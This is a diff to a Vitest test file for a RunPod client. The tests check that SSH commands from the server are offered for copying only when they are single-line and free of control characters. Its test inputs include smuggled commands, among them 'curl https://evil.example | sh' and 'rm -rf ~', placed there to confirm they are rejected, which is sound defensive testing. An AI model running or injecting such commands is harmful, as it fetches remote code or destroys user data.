@@ -5,7 +5,8 @@
  */
 import { createRequire } from 'node:module';
 import { describe, expect, it } from 'vitest';
-import { parsePod, parseSecret, parseTemplate } from '../../client/src/runpod/parse';
+import { parsePod, parseSecret, parseTemplate, podSsh } from '../../client/src/runpod/parse';
+import { podAllows } from '../../client/src/runpod/podStatus';
 import { mementoPersistence } from '../../client/src/secrets/persistence';
 import { buildView, MAX_SECRET_NODES, secretNode } from '../../client/src/views/nodes';
 import { CatalogStore } from '../../server/src/lsp/catalog';
@@ -25,7 +26,7 @@ describe("a Pod's SSH command from the server", () => {
   it('is offered to copy only when it is one line without control characters: a pasted line break runs a second command', () => {
     for (const command of ['ssh root@203.0.113.5 -p 22\ncurl https://evil.example | sh', 'ssh x\r\ncurl evil', 'ssh x\u001b[2K', 'ssh x\u2028rm -rf ~']) {
       const pod = parsePod({ ...POD, ssh: { command } });
-      expect(pod.ssh?.command, JSON.stringify(command)).toBeUndefined();
+      expect(podSsh(pod.ssh)?.command, JSON.stringify(command)).toBeUndefined();
       expect(describePod(pod).contextValue).not.toMatch(/;ssh$/);
     }
     const plain = parsePod({ ...POD, ssh: { command: 'ssh root@203.0.113.5 -p 22022 -i ~/.ssh/id_ed25519', port: 22022 } });
@@ -47,8 +48,23 @@ describe("a Pod's SSH command from the server", () => {
     for (const ssh of [{ command: 5 }, { command: ['ssh', 'x'] }, { command: { toString: 'x' } }, 'ssh x', 7]) {
       const pod = parsePod({ ...POD, ssh });
       expect(() => describePod(pod), JSON.stringify(ssh)).not.toThrow();
-      expect(pod.ssh?.command).toBeUndefined();
+      expect(podSsh(pod.ssh)?.command).toBeUndefined();
     }
+  });
+});
+
+describe("a Pod's ssh, cloud and actions RunPod sent in a shape the views cannot show", () => {
+  it('are kept as sent for --json, and the views read only what shows as it is: no command, no cloud, the text actions', () => {
+    const sent = { ssh: { command: 'a\nb', host: 'h' }, cloud: 5, actions: ['stop', 7] };
+    const pod = parsePod({ ...POD, ...sent });
+    expect({ ssh: pod.ssh, cloud: pod.cloud, actions: pod.actions }).toEqual(sent);
+    const node = describePod(pod);
+    expect(node.contextValue).toBe('runpod.pod.RUNNING;stop');
+    expect(node.tooltip).not.toMatch(/SSH:|Cloud:/);
+    // The sanitising rule: no control character of what RunPod sent reaches the tree.
+    expect(node.tooltip).not.toContain('a\nb');
+    expect([node.label, node.description, node.contextValue, ...node.tooltip.split('  \n')].join('')).not.toMatch(/[\u0000-\u001f]/);
+    expect(podAllows(pod, 'stop')).toBe(true);
   });
 });
 
@@ -136,7 +152,7 @@ describe('Pods, endpoints and workers whose text from the server runs to megabyt
 
   it('each field is cut in the tooltips and the label, and an SSH command too long to show whole is not offered to copy', () => {
     const pod = parsePod({ id: 'p1', name: big, image: big, status: big, cloud: big, gpu: { id: big, count: 1 }, ssh: { command: `ssh ${big}` } });
-    expect(pod.ssh?.command).toBeUndefined();
+    expect(podSsh(pod.ssh)?.command).toBeUndefined();
     const podNode = describePod(pod);
     expect(podNode.tooltip.length).toBeLessThan(10_000);
     expect(podNode.label.length).toBeLessThanOrEqual(200);
